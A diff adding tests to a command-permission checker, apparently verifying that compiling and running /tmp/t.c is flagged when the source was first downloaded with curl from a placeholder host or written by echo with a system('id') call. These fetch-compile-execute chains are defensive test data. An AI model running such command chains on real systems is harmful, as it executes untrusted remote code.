@@ -271,3 +271,15 @@ describe('what was denied once', () => {
     }
   })
 })
+
+describe('source that is compiled and run', () => {
+  const trial = 'gcc -o /tmp/t /tmp/t.c && /tmp/t'
+
+  it.each([
+    ['curl -o /tmp/t.c https://a.example.dev/t.c'],
+    [`echo 'int main(){return system("id");}' > /tmp/t.c`],
+  ])('asks after: %s', (before) => {
+    expect(lastOf([trial]).decision).toBe('allow')
+    expect(lastOf([before, trial]).rules).toContain('execute.outside-project')
+  })
+})
